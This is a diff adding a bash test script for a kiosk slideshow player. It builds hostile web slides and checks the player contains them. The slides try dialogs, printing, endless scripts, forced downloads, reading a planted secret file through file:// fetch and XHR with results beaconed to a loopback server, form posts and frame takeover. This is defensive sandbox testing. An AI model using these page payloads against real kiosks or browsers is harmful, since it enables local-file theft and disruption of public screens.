@@ -1,0 +1,164 @@
+#!/usr/bin/env bash
+# A public screen shows pages nobody here wrote, and anyone can reach its
+# mouse. Each hostile slide below tries one way out of the kiosk (dialogs,
+# printing, an endless script, downloads, reading local files, a context
+# menu, leaving the slide, a dark page) and is followed by a sentinel slide
+# of its own green: the attack is contained when no other window appears,
+# nothing lands in HOME, no local file reaches the loopback server, and
+# every sentinel comes on screen in turn. Then the display window is asked
+# to close and is unmapped by another client: it stays, or comes back.
+source "$(dirname "$0")/lib.sh"
+X_WINDOWS="$VELANE_BUILD/x_windows"
+
+make_root
+paint_root '#3060c0'
+export HOME="$ROOT_DIR/home" XDG_DOWNLOAD_DIR="$ROOT_DIR/home/Downloads"
+mkdir -p "$XDG_DOWNLOAD_DIR"
+SECRET="SECRET-$RANDOM$RANDOM"
+echo "$SECRET" >"$ROOT_DIR/secret.txt"
+
+LOG="$ROOT_DIR/server.log"
+touch "$LOG"
+coproc SERVER { exec python3 "$(dirname "$0")/hostile_server.py" "$LOG"; }
+read -r -t 10 PORT <&"${SERVER[0]}"
+SERVER_URL="http://127.0.0.1:$PORT"
+stop_server() { kill "$SERVER_PID" 2>/dev/null || true; }
+trap 'stop_server; cleanup' EXIT
+
+head='<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"><style>html,body{margin:0;height:100%;overflow:hidden}</style>'
+beacon="<script>function beacon(t){new Image().src='$SERVER_URL/beacon?'+encodeURIComponent(t);}</script></head>"
+page() {  # page SECTION FILE BODY...
+  mkdir -p "$ROOT_DIR/flashs/$(printf %05d "$1")"
+  local f="$ROOT_DIR/flashs/$(printf %05d "$1")/$2"; shift 2
+  printf '%s\r\n' "$head" "$beacon" "$@" '</html>' >"$f"
+}
+M="$ROOT_DIR/modeles"
+printf '%s\r\n' "$head" '</head><body><img src="%FICHIER%" style="display:block;width:100%;height:100%"></body></html>' >"$M/image.html"
+printf '%s\r\n' "$head" '</head><body style="background:#000"><iframe src="%URL%" style="border:0;width:100%;height:100%"></iframe></body></html>' >"$M/url.html"
+: >"$M/transitions.ini"
+
+# Hostile slides, each with a colour of its own once its attack has run.
+page 1 p.html '<body><script>alert("a"); beacon("confirm=" + confirm("c")); beacon("prompt=" + prompt("p", "typed"));' \
+  'onbeforeunload = function(e) { e.preventDefault(); e.returnValue = "stay"; return "stay"; };' \
+  'document.body.style.background = "#C00000";</script></body>'
+page 3 p.html '<body style="background:#C0C000"><script>window.print(); beacon("printed");</script></body>'
+page 5 p.html '<body style="background:#0000C0"><script>setTimeout(function() { beacon("looping"); for (;;) {} }, 500);</script></body>'
+page 7 p.html '<body style="background:#C000C0"><a id="a" download="x.txt" href="data:text/plain,DLPAYLOAD1">x</a>' \
+  "<iframe style=\"width:8px;height:8px\" src=\"$SERVER_URL/attach.html\"></iframe><iframe style=\"width:8px;height:8px\" src=\"$SERVER_URL/attach.bin\"></iframe>" \
+  '<script>document.getElementById("a").click(); var l = document.createElement("a");' \
+  'l.href = URL.createObjectURL(new Blob(["DLPAYLOAD2"])); l.download = "y.bin"; document.body.appendChild(l); l.click();' \
+  'beacon("download-clicked");</script></body>'
+page 9 p.html '<body style="background:#00C0C0"><script>beacon("hello");' \
+  "fetch(\"file://$ROOT_DIR/secret.txt\").then(function(r) { return r.text(); }).then(beacon, function() { beacon(\"fetch-refused\"); });" \
+  'fetch("../../secret.txt").then(function(r) { return r.text(); }).then(beacon, function() { beacon("relative-fetch-refused"); });' \
+  "var x = new XMLHttpRequest(); try { x.open(\"GET\", \"file://$ROOT_DIR/secret.txt\"); x.onload = function() { beacon(x.responseText); };" \
+  'x.onerror = function() { beacon("xhr-refused"); }; x.send(); } catch (e) { beacon("xhr-refused"); }</script>' \
+  "<iframe id=\"f\" style=\"width:8px;height:8px\" src=\"file://$ROOT_DIR/secret.txt\" onload=\"try { beacon(this.contentDocument.body.innerText); } catch (e) { beacon('iframe-refused'); }\"></iframe></body>"
+page 11 p.html '<body style="background:#808000"><a href="file:///" onmousedown="beacon(&quot;clicked&quot;)" style="display:block;width:100%;height:100%"></a>' \
+  "<form id=\"f\" method=\"post\" action=\"$SERVER_URL/form\"><input name=\"q\" value=\"posted\"></form>" \
+  '<script>setTimeout(function() { document.getElementById("f").submit(); }, 3000);</script></body>'
+page 15 p.html '<body><p style="color:#000">Black text on a page with no background of its own.</p></body>'
+
+# Sentinels: greens of their own; the fifth is a picture by relative name,
+# which composed pages must still be able to show.
+sentinel_colour() { printf '#00%02X00' $((0xFF - 0x11 * ($1 - 1))); }
+for k in 1 2 3 4 6 7 8; do
+  page $((2 * k)) p.html "<body style=\"background:$(sentinel_colour $k)\"></body>"
+done
+mkdir -p "$ROOT_DIR/flashs/00010" "$ROOT_DIR/flashs/00013"
+printf '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="%s"/></svg>' \
+  "$(sentinel_colour 5)" >"$ROOT_DIR/flashs/00010/s.svg"
+
+slide() {  # slide SECTION TYPE VALUE DWELL NEXT
+  printf '%s\r\n' "[section $1]" "Type=$2" "$2=$3" "delais secondes=$4" "section suivante=$5"
+}
+{
+  printf '%s\r\n' '[section 0]' 'section suivante=1'
+  slide 1 html p.html 3 2;  slide 2 html p.html 1 3
+  slide 3 html p.html 1 4;  slide 4 html p.html 1 5
+  slide 5 html p.html 1 6;  slide 6 html p.html 8 7
+  slide 7 html p.html 2 8;  slide 8 html p.html 1 9
+  slide 9 html p.html 2 10; slide 10 image s.svg 1 11
+  slide 11 html p.html 4 12; slide 12 html p.html 1 13
+  slide 13 url "$SERVER_URL/top" 2 14; slide 14 html p.html 1 15
+  slide 15 html p.html 1 16; slide 16 html p.html 600 1
+} >"$ROOT_DIR/VELANE_Afficheur.ini"
+
+start_player RUNTIME
+check "the display window is mapped" wait_until 20 fullscreen_window_mapped
+
+# Watch the centre of the display area and the mapped windows; act as a
+# passer-by when the slides that need a hand come up.
+seen=""
+strangers=""
+quit_window_seen=0
+clicked_dialogs=0
+clicked_nav=0
+last_sentinel="$(sentinel_colour 8)"
+for _ in $(seq 240); do
+  screenshot "$ROOT_DIR/s.png"
+  c="$(pixel "$ROOT_DIR/s.png" 384 288)"
+  [[ "$seen" == *"$c" ]] || seen+=" $c"
+  while read -r id geometry; do
+    case "$geometry" in
+      "$(xdpyinfo | awk '/dimensions:/{print $2}')+0+0") ;;
+      437x54+*) quit_window_seen=1 ;;
+      *) strangers+=" $geometry" ;;
+    esac
+  done < <("$X_WINDOWS" list)
+  if [[ "$c" == "#C00000" && $clicked_dialogs -eq 0 ]]; then
+    # A click gives the page the user activation a "leave this page?" needs.
+    xdotool mousemove 384 288 click 1; clicked_dialogs=1
+  fi
+  if [[ "$c" == "#808000" && $clicked_nav -eq 0 ]]; then
+    xdotool mousemove 380 280 click 3; sleep 0.3
+    "$X_WINDOWS" list >"$ROOT_DIR/after-right-click"
+    grep -q ' 437x54+' "$ROOT_DIR/after-right-click" && quit_window_seen=1
+    grep -v -e '+0+0$' -e ' 437x54+' "$ROOT_DIR/after-right-click" >>"$ROOT_DIR/menus" || true
+    xdotool key Escape click 1; clicked_nav=1
+  fi
+  [[ "$c" == "$last_sentinel" ]] && break
+  sleep 0.1
+done
+echo "colours at the centre, in order:$seen"
+[[ -s "$ROOT_DIR/menus" ]] && strangers+=" $(tr '\n' ' ' <"$ROOT_DIR/menus")"
+
+order=""
+for k in 1 2 3 4 5 6 7 8; do order+=".*$(sentinel_colour $k)"; done
+check "every sentinel came on screen, in order" grep -qE "$order" <<<"$seen"
+check "no other window appeared (dialog, print dialog, menu, file chooser):${strangers:- none}" test -z "$strangers"
+check "control: the window watch saw the quit window after the click" test "$quit_window_seen" -eq 1
+check "dialogs answered: confirm went on, prompt was cancelled" \
+  grep -q 'confirm%3Dtrue' "$LOG" && grep -q 'prompt%3Dnull' "$LOG"
+check "the page's dialogs ran before its colour was set" grep -q '#C00000' <<<"$seen"
+check "printing was attempted (control)" grep -q 'beacon?printed' "$LOG"
+check "the endless script ran (control)" grep -q 'beacon?looping' "$LOG"
+check "the hung page process was ended" grep -q 'stopped answering' "$ROOT_DIR/player.log"
+check "the downloads were attempted (control)" grep -q 'beacon?download-clicked' "$LOG"
+check "the attachment was fetched (control)" grep -q 'GET /attach.html' "$LOG"
+check "nothing was downloaded into HOME" bash -c "! grep -rqs DLPAYLOAD '$HOME'"
+check "the file page reached the server (control)" grep -q 'beacon?hello' "$LOG"
+check "no local file reached the server" bash -c "! grep -q '$SECRET' '$LOG'"
+check "local reads were refused in the page" grep -q 'fetch-refused' "$LOG"
+check "the picture slide by relative name showed" grep -q "$(sentinel_colour 5)" <<<"$seen"
+check "the link was clicked and the form sent (control)" \
+  grep -q 'beacon?clicked' "$LOG" && grep -q 'POST /form' "$LOG"
+check "the link and the form did not leave the slide" grep -qE "#808000 $(sentinel_colour 6)" <<<"$seen"
+check "the framed site tried top.location (control)" grep -q 'beacon?top-attempt' "$LOG"
+check "the framed site never took the view" bash -c "! grep -qi '#FF00FF' <<<'$seen'"
+check "a page without background is white" grep -qE "$(sentinel_colour 7).*#FFFFFF" <<<"$seen"
+
+# The display window: a close request does nothing, an unmap is undone.
+display="$("$X_WINDOWS" list | awk -v g="$(xdpyinfo | awk '/dimensions:/{print $2}')+0+0" '$2 == g {print $1; exit}')"
+"$X_WINDOWS" close "$display"
+sleep 1
+check "a close request leaves the display window on screen" bash -c "'$X_WINDOWS' list | grep -q '^$display '"
+xdotool windowunmap "$display"
+check "control: the unmap took the window off the screen" bash -c "! '$X_WINDOWS' list | grep -q '^$display '"
+check "the display window comes back within a second" wait_until 1 bash -c "'$X_WINDOWS' list | grep -q '^$display '"
+sleep 0.5
+screenshot "$ROOT_DIR/s.png"
+check "the last sentinel is on screen again" test "$(pixel "$ROOT_DIR/s.png" 384 288)" = "$last_sentinel"
+check "the player is still running" player_alive
+echo "--- player's reports"; grep -v '^fake shutdown' "$ROOT_DIR/player.log" | head -20 || true
+finish
